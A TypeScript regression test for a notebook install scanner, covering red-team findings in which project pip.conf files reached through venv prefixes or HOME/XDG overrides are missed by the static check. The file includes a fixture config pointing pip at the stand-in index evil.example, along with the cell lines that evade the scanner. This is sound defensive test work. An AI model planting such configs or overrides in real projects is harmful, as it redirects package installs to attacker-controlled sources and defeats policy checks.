/**
 * Red team 47c R47c-1 / R47c-2 (HIGH for the static side: false clean). The pip.conf files a
 * project's own install line makes pip read are read by the kernel guard and not by
 * warden-scan, so a notebook whose install takes an index the policy refuses scans clean.
 *
 * R47c-1: `!venv/bin/pip install black` (or `!env/bin/python -m pip ...`) with the project's
 * `venv/pip.conf` naming an index: pip reads `sys.prefix/pip.conf`, the kernel reads the
 * program's prefix (`installs/sources.py` `_pip_prefixes`); `pipConfigFiles`
 * (src/deps/pipconfig.ts:33-53) reads only `.venv` and `$VIRTUAL_ENV`.
 *
 * R47c-2: `!HOME=. pip install black` with `./.pip/pip.conf` (or `.config/pip/pip.conf`,
 * `XDG_CONFIG_HOME=cfg`, `XDG_CONFIG_DIRS=cfg`): pip's user / XDG config, here a project file
 * the line names; the kernel reads it (`pip_config_files`, HOME from the start's env), the
 * static side never reads a user config, even one the scanned line points into the project.
 *
 * The kernel half (and the real pip reading each file) is
 * tests/deps/test_redteam47c_pipconf_places.py.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import {
  installRules,
  scratchDir,
  writeNotebook
} from '../testing/scan-fixture';

const EVIL = '[global]\nindex-url = https://evil.example/simple\n';

function scan(cell: string, files: Record<string, string>): string[] {
  const dir = scratchDir('rt47c-pipconf-');
  for (const [name, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
    fs.writeFileSync(path.join(dir, name), text);
  }
  const notebook = path.join(dir, 'setup.ipynb');
  writeNotebook(notebook, [cell]);
  return installRules([notebook]);
}

describe("red team 47c: a project's pip.conf the line makes pip read", () => {
  it('control: .venv/pip.conf is read', () => {
    expect(scan('!pip install black', { '.venv/pip.conf': EVIL })).toEqual([
      'install-index-not-allowed'
    ]);
  });

  it.each([
    ['!venv/bin/pip install black', 'venv/pip.conf'],
    ['!env/bin/pip3.11 install black', 'env/pip.conf'],
    ['!venv/bin/pip install -r r.txt', 'venv/pip.conf']
  ])("R47c-1: %s reads %s (the program's prefix)", (cell, conf) => {
    expect(scan(cell, { [conf]: EVIL, 'r.txt': 'black\n' })).toContain(
      'install-index-not-allowed'
    );
  });

  it.each([
    ['!HOME=. pip install black', '.pip/pip.conf'],
    ['!HOME=. pip install black', '.config/pip/pip.conf'],
    ['!XDG_CONFIG_HOME=cfg pip install black', 'cfg/pip/pip.conf'],
    ['!XDG_CONFIG_DIRS=cfg pip install black', 'cfg/pip/pip.conf'],
    ['!export HOME=.; pip install black', '.pip/pip.conf']
  ])('R47c-2: %s reads %s', (cell, conf) => {
    expect(scan(cell, { [conf]: EVIL })).toContain('install-index-not-allowed');
  });
});
